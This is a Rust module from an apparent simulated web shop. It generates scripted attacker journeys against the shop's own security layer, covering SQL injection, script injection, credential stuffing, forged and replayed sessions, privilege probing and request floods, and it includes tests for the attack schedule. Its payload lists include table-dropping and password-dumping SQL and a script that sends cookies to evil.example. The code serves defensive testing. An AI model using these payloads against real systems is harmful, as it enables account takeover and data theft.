//! The attack: the way of somebody who did not come to buy.

use core::sync::atomic::AtomicBool;

use rand::{RngExt, SeedableRng, rngs::Xoshiro256PlusPlus, seq::SliceRandom};
use ttlog_std::{Context, Level, debug, span};

use super::{
    choices::Choices,
    journey::{Cut, go_on},
    population::{Person, Population},
};
use crate::{
    basket::Line,
    catalogue::Category,
    ids::{CustomerId, OrderId, ProductId},
    protocol::{order::Checkout, user::SessionToken},
    security::{Door, Origin, Visitor},
};

/// Of so many journeys one is an attack.
const JOURNEYS: u64 = 32;
/// From so many addresses each kind comes, so that some come back while they are still known.
const ADDRESSES: u32 = 4;
/// How many requests a flood has; no address may have so many at once.
const FLOOD_REQUESTS: u32 = 400;

const SQL: [&str; 5] = [
    "lamp' OR '1'='1",
    "desk'; DROP TABLE orders; --",
    "tent' UNION SELECT email, password FROM accounts --",
    "oak%27%20or%201%3D1",
    "chair' and sleep(5) --",
];
const SCRIPT: [&str; 4] = [
    "<script>document.location='//evil.example/'+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    "%3Cscript src=//evil.example%3E",
    "<svg/onload=alert(1)>",
];
/// What they call themselves, by kind.
const AGENTS: [&str; 6] = [
    "sqlmap/1.9",
    "Firefox/145",
    "python-requests/2.32",
    "curl/8.17",
    "Chrome/142",
    "hey/0.1.4",
];

/// What somebody is up to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Pieces of queries as words to search for, and as a voucher's code.
    SqlInjection,
    /// Pieces of programs as words to search for, and as a name.
    ScriptInjection,
    /// A list of stolen passwords, tried one account after the other; one of them is right, and
    /// is used to buy.
    CredentialStuffing,
    /// Sessions that were made up, and one that was taken to another address.
    AuthBypass,
    /// Other people's accounts, and an administrator's rights.
    PrivilegeProbe,
    /// As many requests as go out.
    Flood,
}

impl Attack {
    const ALL: [Self; 6] = [
        Self::SqlInjection,
        Self::ScriptInjection,
        Self::CredentialStuffing,
        Self::AuthBypass,
        Self::PrivilegeProbe,
        Self::Flood,
    ];

    /// The attack that the journey of this number is, if it is one.
    ///
    /// One in 32 is, somewhere among each 32; and each kind comes once, in some order, before any
    /// comes again, so that a short run has seen them all.
    #[must_use]
    pub fn of(seed: u64, journey: u64) -> Option<Self> {
        let journey = journey.checked_sub(1)?;
        let block = journey / JOURNEYS;
        let chance = |salt: u64, number: u64| {
            let mixed = seed.rotate_left(17) ^ salt;
            Xoshiro256PlusPlus::seed_from_u64(mixed.wrapping_add(number))
        };
        let place = chance(0x0a77_ac4e, block).random_range(0..JOURNEYS);
        if journey % JOURNEYS != place {
            return None;
        }
        let kinds = Self::ALL.len() as u64;
        let mut bag = Self::ALL;
        bag.shuffle(&mut chance(0x0ba9, block / kinds));
        Some(bag[(block % kinds) as usize])
    }
}

/// Somebody who carries out an attack.
pub struct Attacker<'a> {
    number: u64,
    attack: Attack,
    choices: Choices,
    population: &'a Population,
    door: &'a Door,
    origin: Origin,
    closing: &'a AtomicBool,
}

impl<'a> Attacker<'a> {
    /// The attacker with this journey's number, which together with the seed decides every choice.
    pub fn new(
        seed: u64,
        number: u64,
        attack: Attack,
        population: &'a Population,
        door: &'a Door,
        closing: &'a AtomicBool,
    ) -> Self {
        let mut choices = Choices::new(seed, number);
        let kind = attack as u32;
        let host = kind * ADDRESSES + choices.number(ADDRESSES);
        Self {
            number,
            attack,
            choices,
            population,
            door,
            origin: Origin::elsewhere(host, AGENTS[kind as usize]),
            closing,
        }
    }

    /// Tries it, until it is done, turned away, or the shop closes.
    pub fn run(mut self) {
        let (journey, attack) = (self.number, self.attack);
        let _span = span!(Level::Debug, "attack", journey);
        let no_trace = Context::current().is_none();
        let _context = no_trace.then(|| Context::root().enter());
        let Origin { address, agent } = self.origin;
        debug!("attack.start journey={journey} attack={attack:?} address={address} agent={agent}");
        let tried = match attack {
            Attack::SqlInjection => self.inject(&SQL),
            Attack::ScriptInjection => self.inject(&SCRIPT),
            Attack::CredentialStuffing => self.stuff(),
            Attack::AuthBypass => self.bypass(),
            Attack::PrivilegeProbe => self.probe(),
            Attack::Flood => self.flood(),
        };
        let end = match tried {
            Ok(()) => "done",
            Err(Cut::Closing) => "closing",
            Err(Cut::Refused) => "refused",
            Err(Cut::Turned) => "turned away",
        };
        debug!("attack.end journey={journey} attack={attack:?} end={end}");
    }

    fn inject(&mut self, texts: &'static [&'static str]) -> Result<(), Cut> {
        let me = self.me();
        me.browse(Category::Kitchen)?;
        // Each is turned away; that is no reason to give up.
        for _ in 0..2 {
            go_on(self.closing)?;
            let text = self.choices.one_of(texts).copied().unwrap_or_default();
            let _ = me.search(text, 10);
        }
        let text = self.choices.one_of(texts).copied().unwrap_or_default();
        match self.attack {
            Attack::SqlInjection => drop(me.quote(one_piece(), Some(text.to_owned()))?),
            _ => drop(me.register(&format!("{text}@mail.example"), "password")?),
        }
        Ok(())
    }

    fn stuff(&mut self) -> Result<(), Cut> {
        let me = self.me();
        let people = self.population.people();
        // Not enough to be shut out, when nothing else is known; they know how it is done.
        for _ in 0..9 + self.choices.number(3) {
            go_on(self.closing)?;
            let Some(victim) = self.choices.one_of(people) else {
                return Ok(());
            };
            let _ = me.log_in(&victim.email, "from-another-shops-leak")?;
        }
        for _ in 0..3 {
            go_on(self.closing)?;
            let Some(victim) = self.choices.one_of(people) else {
                return Ok(());
            };
            if let Ok(token) = me.log_in(&victim.email, &victim.password)? {
                self.buy(token, victim)?;
                me.log_out(token);
                return Ok(());
            }
        }
        Err(Cut::Refused)
    }

    /// Buys with somebody else's account and card.
    fn buy(&self, token: SessionToken, victim: &Person) -> Result<(), Cut> {
        let checkout = Checkout {
            order: OrderId(self.number),
            token,
            basket: one_piece(),
            card: victim.card,
            coupon: None,
            region: victim.region,
            risk: 0,
        };
        match self.me().place(checkout)? {
            Ok(_) => Ok(()),
            Err(_) => Err(Cut::Refused),
        }
    }

    fn bypass(&mut self) -> Result<(), Cut> {
        let token = self.own_session()?;
        go_on(self.closing)?;
        let forged = SessionToken(self.choices.secret());
        let _ = self.me().identify(forged)?;
        go_on(self.closing)?;
        // The same session, taken to the next address.
        let mut there = self.origin;
        let [.., host] = there.address.octets();
        there.address = Origin::elsewhere(host.into(), there.agent).address;
        let _ = self.door.visitor(there).identify(token);
        self.me().log_out(token);
        Ok(())
    }

    fn probe(&mut self) -> Result<(), Cut> {
        let me = self.me();
        let token = self.own_session()?;
        for _ in 0..2 {
            go_on(self.closing)?;
            let somebody = CustomerId(self.choices.number(100).into());
            let _ = me.account(token, somebody)?;
        }
        let _ = me.promote(token)?;
        me.log_out(token);
        Ok(())
    }

    fn flood(&mut self) -> Result<(), Cut> {
        let me = self.me();
        for _ in 0..FLOOD_REQUESTS {
            go_on(self.closing)?;
            // Refused or not: the next one goes out.
            let _ = me.browse(Category::Light);
        }
        Ok(())
    }

    /// A session that is their own, as everybody can have one.
    fn own_session(&self) -> Result<SessionToken, Cut> {
        let email = format!("visitor{}@mail.example", self.number);
        let password = "a password of their own";
        let _ = self.me().register(&email, password)?;
        self.me()
            .log_in(&email, password)?
            .map_err(|_| Cut::Refused)
    }

    fn me(&self) -> Visitor<'a> {
        self.door.visitor(self.origin)
    }
}

fn one_piece() -> Vec<Line> {
    vec![Line {
        product: ProductId(0),
        quantity: 1,
    }]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn three_in_a_hundred_come_to_do_harm_and_early_all_kinds_of_them() {
        for seed in 0..20 {
            let attacks: Vec<Attack> = (1..=JOURNEYS * 6)
                .filter_map(|journey| Attack::of(seed, journey))
                .collect();
            assert_eq!(attacks.len(), 6);
            for kind in Attack::ALL {
                assert!(attacks.contains(&kind), "{kind:?} of seed {seed}");
            }
        }
    }

    #[test]
    fn who_attacks_is_decided_by_the_seed() {
        let attacks = |seed| -> Vec<Option<Attack>> {
            (0..500).map(|journey| Attack::of(seed, journey)).collect()
        };
        assert_eq!(attacks(3), attacks(3));
        assert_ne!(attacks(3), attacks(4));
    }
}
